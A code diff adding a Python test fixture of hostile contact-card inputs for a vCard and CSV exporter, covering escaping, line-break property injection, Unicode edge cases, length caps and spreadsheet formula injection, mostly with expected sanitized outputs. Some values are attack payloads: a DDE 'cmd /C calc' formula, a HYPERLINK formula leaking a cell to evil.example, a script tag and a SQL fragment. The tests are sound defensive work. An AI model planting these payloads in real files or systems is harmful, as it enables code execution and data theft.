@@ -1,0 +1,163 @@
+"""Hostile names, titles and notes."""
+
+# One card a row, however long.
+# ruff: noqa: E501
+# fmt: off
+
+from tests.exchange.hostile_cards import Hostile, ann
+
+FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
+RAINBOW = "\U0001f3f3\ufe0f\u200d\U0001f308"
+ENGLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
+
+SEPARATORS = [
+    Hostile("semicolon in the name", {"fn": "Ann; DROP TABLE"}),
+    Hostile("comma in the name", {"fn": "Lovelace, Ada"}),
+    Hostile("colon in the name", {"fn": "Ann: the one"}),
+    Hostile("backslash in the name", {"fn": "Ann \\ Bob"}),
+    Hostile("backslash at the end of the name", {"fn": "Ann\\"}),
+    Hostile("two backslashes", {"fn": "Ann\\\\Bob"}),
+    Hostile("backslash and n", {"fn": "Ann\\nBob"}),
+    Hostile("backslash and N", ann(note="C:\\New\\notes")),
+    Hostile("escaped semicolon already", ann(title="Head\\; of \\, things")),
+    Hostile("quotes in the name", {"fn": 'Ann "the hammer" Lee'}),
+    Hostile("only a quote", {"fn": '"'}),
+    Hostile("semicolon in the title", ann(title="Sales; Marketing; PR")),
+    Hostile("comma in the title", ann(title="VP, Sales")),
+    Hostile("separators in the note", ann(note="a;b,c:d\\e|f\tg")),
+    Hostile("semicolon in the company", ann(org=["AT;T", "R;D"])),
+    Hostile("comma in the company", ann(org=["Smith, Jones & Co.", "Law, tax"])),
+    Hostile("company alone", ann(org=["Acme"])),
+    Hostile("department alone", ann(org=["", "Research"])),
+    Hostile("blank company", ann(org=["  ", ""]), {"org": []}),
+    Hostile("backslash at the end of the company", ann(org=["Acme\\", "R\\"])),
+    Hostile("comma in a category", ann(categories=["Tea, coffee", "Networking; week 2"])),
+    Hostile("many categories", ann(categories=["a", "b", "c\\", ",", ";"])),
+    Hostile("blank category", ann(categories=["", " ", "x"]), {"categories": ["x"]}),
+    Hostile("parts of the name with separators", ann(n=["O;Neil", "A,nn", "M\\", "Dr.", "Jr., M.D."])),
+    Hostile("pipe and caret", ann(note="a|b^c^n^'")),
+    Hostile("curly braces and percent", {"fn": "{name} %s %(x)s {0}"}),
+    Hostile("markup", {"fn": "<script>alert(1)</script>"}),
+    Hostile("ampersand entity", ann(note="R&amp;D &lt;b&gt;")),
+]
+
+INJECTIONS = [
+    Hostile("line break in the name", {"fn": "Eve\r\nEMAIL:eve@evil.example"}, {"fn": "Eve EMAIL:eve@evil.example"}),
+    Hostile("LF in the name", {"fn": "Eve\nTEL:666"}, {"fn": "Eve TEL:666"}),
+    Hostile("CR in the name", {"fn": "Eve\rTEL:666"}, {"fn": "Eve TEL:666"}),
+    Hostile("END in the note", ann(note="bye\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Mallory"), {"note": "bye\nEND:VCARD\nBEGIN:VCARD\nFN:Mallory"}),
+    Hostile("END of an event in the note", ann(note="x\nEND:VEVENT\nEND:VCALENDAR")),
+    Hostile("fold in the note", ann(note="a\r\n b\r\n\tc"), {"note": "a\n b\n\tc"}),
+    Hostile("line break in the title", ann(title="Boss\r\nNOTE:x"), {"title": "Boss NOTE:x"}),
+    Hostile("line break in the company", ann(org=["A\nB", "C\r\nD"]), {"org": ["A B", "C D"]}),
+    Hostile("line break in a category", ann(categories=["a\nb"]), {"categories": ["a b"]}),
+    Hostile("line break in a part of the name", ann(n=["Lee\r\nTEL:1", "Ann", "", "", ""]), {"n": ["Lee TEL:1", "Ann", "", "", ""]}),
+    Hostile("NUL in the name", {"fn": "A\x00nn"}, {"fn": "Ann"}),
+    Hostile("NUL in the note", ann(note="a\x00b"), {"note": "ab"}),
+    Hostile("C0 in the note", ann(note="a\x01\x02\x08\x0b\x0c\x1b[31m\x1fb"), {"note": "a[31mb"}),
+    Hostile("C1 in the note", ann(note="a\x80\x9b\x9fb"), {"note": "ab"}),
+    Hostile("DEL in the name", {"fn": "An\x7fn"}, {"fn": "Ann"}),
+    Hostile("line separator in the note", ann(note="a\u2028b\u2029c"), {"note": "a\nb\nc"}),
+    Hostile("line separator in the name", {"fn": "a\u2028b"}, {"fn": "a b"}),
+    Hostile("next line in the name", {"fn": "a\u0085b"}, {"fn": "a b"}),
+    Hostile("tab in the name", {"fn": "a\tb"}, {"fn": "a b"}),
+    Hostile("blank lines in the note", ann(note="\n\na\n\n\nb\n\n"), {"note": "a\n\n\nb"}),
+    Hostile("spaces around", ann(fn="  Ann  ", note="  x  "), {"fn": "Ann", "note": "x"}),
+    Hostile("parameter in the name", {"fn": "ENCODING=QUOTED-PRINTABLE:=0D=0A"}),
+    Hostile("base64 in the note", ann(note="PHOTO;ENCODING=b:/9j/4AAQ")),
+    Hostile("a property for a name", {"fn": "BEGIN:VCARD"}),
+    Hostile("byte order mark in the name", {"fn": "\ufeffAnn"}, {"fn": "Ann"}),
+]
+
+SCRIPTS = [
+    Hostile("family emoji", {"fn": f"Kim {FAMILY}"}),
+    Hostile("emoji alone", {"fn": RAINBOW}),
+    Hostile("flag of tags", {"fn": f"Ann {ENGLAND}"}),
+    Hostile("skin tones", {"fn": "Ann \U0001f44b\U0001f3fd"}),
+    Hostile("emoji over the fold", ann(note=FAMILY * 40)),
+    Hostile("astral letters", {"fn": "\U0001d518\U0001d52b\U0001d526"}),
+    Hostile("Hebrew", {"fn": "שָׁלוֹם כהן"}, {"fn": "שָׁלוֹם כהן"}),
+    Hostile("Arabic", ann(fn="ليلى أحمد", title="مهندسة، برمجيات")),
+    Hostile("Persian with a joiner", {"fn": "می\u200cخواهم"}),
+    Hostile("Urdu", {"fn": "محمد علی"}),
+    Hostile("override", {"fn": "Ann \u202egnp.exe\u202c"}, {"fn": "Ann gnp.exe"}),
+    Hostile("isolates", {"fn": "\u2067Ann\u2069"}, {"fn": "Ann"}),
+    Hostile("left-to-right mark", {"fn": "Ann\u200e (ע)"}),
+    Hostile("Chinese", ann(fn="李小龙", n=["李", "小龙", "", "", ""])),
+    Hostile("Chinese whole", {"fn": "王秀英"}),
+    Hostile("Japanese with an ideographic space", {"fn": "山田\u3000太郎"}),
+    Hostile("Korean", {"fn": "김철수"}),
+    Hostile("Korean in letters", {"fn": "\u1100\u1161\u11a8"}, {"fn": "각"}),
+    Hostile("CJK over the fold", ann(note="漢字かな交じり文" * 30)),
+    Hostile("Devanagari", {"fn": "क्षत्रिय श्री"}),
+    Hostile("Tamil", {"fn": "தமிழ்ச்செல்வி"}),
+    Hostile("Thai", {"fn": "น้ำฝน ใจดี"}),
+    Hostile("Burmese", {"fn": "အောင်ဆန်းစုကြည်"}),
+    Hostile("decomposed", {"fn": "Zoe\u0308 A\u030angstro\u0308m"}, {"fn": "Zoë Ångström"}),
+    Hostile("Vietnamese decomposed", {"fn": "Nguye\u0302\u0303n"}, {"fn": "Nguyễn"}),
+    Hostile("many marks", {"fn": "Z\u0351\u034b\u0300\u0301a\u0334\u0321l\u0337go"}, {}),
+    Hostile("Turkish", {"fn": "İpek Işık"}),
+    Hostile("sharp s", {"fn": "Jürgen Weiß"}),
+    Hostile("single letter", {"fn": "X"}),
+    Hostile("single name", ann(fn="Suharto")),
+    Hostile("digits for a name", {"fn": "42"}),
+    Hostile("apostrophes", {"fn": "D’Arcy O'Neil"}),
+    Hostile("half a surrogate pair", {"fn": "Ann \ud83d!"}, {"fn": "Ann !"}),
+    Hostile("the other half", ann(note="a\ude00b"), {"note": "ab"}),
+    Hostile("noncharacters", ann(note="a\uffff\ufdd0\U0001ffffb"), {"note": "ab"}),
+    Hostile("private use", {"fn": "Ann \ue000"}),
+    Hostile("replacement character", {"fn": "M\ufffdller"}),
+    Hostile("object replacement", ann(note="\ufffc")),
+    Hostile("zero-width space inside", {"fn": "Ann\u200bLee"}),
+]
+
+NAMES = [
+    Hostile("all parts", ann(n=["Lovelace", "Ada", "King", "Countess", "PhD"])),
+    Hostile("given alone", ann(n=["", "Ann", "", "", ""])),
+    Hostile("family alone", ann(n=["Lee", "", "", "", ""])),
+    Hostile("short list of parts", ann(n=["Lee", "Ann"]), {"n": ["Lee", "Ann", "", "", ""]}),
+    Hostile("blank parts", ann(n=["", " ", "", "", ""]), {"n": ["", "Ann", "", "", ""]}),
+    Hostile("null parts", ann(n=None), {"n": ["", "Ann", "", "", ""]}),
+    Hostile("whole name of two words", {"fn": "Ludwig van Beethoven"}),
+    Hostile("nulls everywhere", ann(n=None, emails=None, phones=None, urls=None, org=None, title=None, note=None, categories=None), {"n": ["", "Ann", "", "", ""], "emails": [], "phones": [], "urls": [], "org": [], "title": "", "note": "", "categories": []}),
+]
+
+LENGTHS = [
+    Hostile("10,000 characters of note", ann(note="x" * 10_000)),
+    Hostile("10,000 of another script", ann(note="ж" * 10_000)),
+    Hostile("10,000 emoji", ann(note="😀" * 10_000)),
+    Hostile("10,000 backslashes", ann(note="\\" * 10_000)),
+    Hostile("10,000 semicolons", ann(note=";" * 10_000)),
+    Hostile("10,000 line breaks", ann(note="a" + "\n" * 9_998 + "b")),
+    Hostile("spaces over the fold", ann(note="a" + " " * 400 + "b")),
+    Hostile("longer than the cap", ann(note="x" * 10_001), {"note": "x" * 10_000}),
+    Hostile("10,000 characters of name", {"fn": "n" * 10_000}, {"fn": "n" * 1_000}),
+    Hostile("a name cut between its characters", {"fn": "e" + FAMILY * 200}, {"fn": "e" + FAMILY * 142}),
+    Hostile("300 characters of title", ann(title="title " * 50 + "!")),
+    Hostile("long company", ann(org=["ö" * 500, "ü" * 500])),
+    Hostile("long parts of the name", ann(n=["ł" * 300, "ß" * 300, "", "", ""])),
+    Hostile("50 e-mail addresses", ann(emails=[f"ann{i}@example.org" for i in range(50)])),
+    Hostile("50 numbers", ann(phones=[f"+49 30 {i:06}" for i in range(50)])),
+    *[Hostile(f"fold at {n}", ann(note="n" * n + "é漢😀;,\\\n" * 3 + "!")) for n in range(64, 76)],
+]
+
+FORMULAS = [
+    Hostile("formula for a name", {"fn": "=1+1"}),
+    Hostile("plus for a name", {"fn": "+1+1"}),
+    Hostile("minus for a name", {"fn": "-2+3"}),
+    Hostile("at for a name", {"fn": "@SUM(1)"}),
+    Hostile("command for a title", ann(title="=cmd|' /C calc'!A0")),
+    Hostile("hyperlink in the note", ann(note='=HYPERLINK("https://evil.example?x="&A1,"x")')),
+    Hostile("formula for a company", ann(org=["=1", "@x"])),
+    Hostile("apostrophe first", {"fn": "'Ann"}),
+    Hostile("two apostrophes first", {"fn": "''=1+1"}),
+    Hostile("apostrophe before a formula", ann(note="'=1+1")),
+    Hostile("formula after a line break", ann(note="x\n=1+1")),
+    Hostile("formula after a tab", ann(note="\t=1+1"), {"note": "=1+1"}),
+    Hostile("formula as category", ann(categories=["=1+1"])),
+    Hostile("formula as a part of the name", ann(n=["=1", "+2", "-3", "@4", "'5"])),
+    Hostile("e-mail address like a formula", ann(emails=["=1+1@example.org"])),
+    Hostile("cell with everything", ann(note='a,"b";c\n"d"\te')),
+]
+
+HOSTILE_TEXT = [*SEPARATORS, *INJECTIONS, *SCRIPTS, *NAMES, *LENGTHS, *FORMULAS]
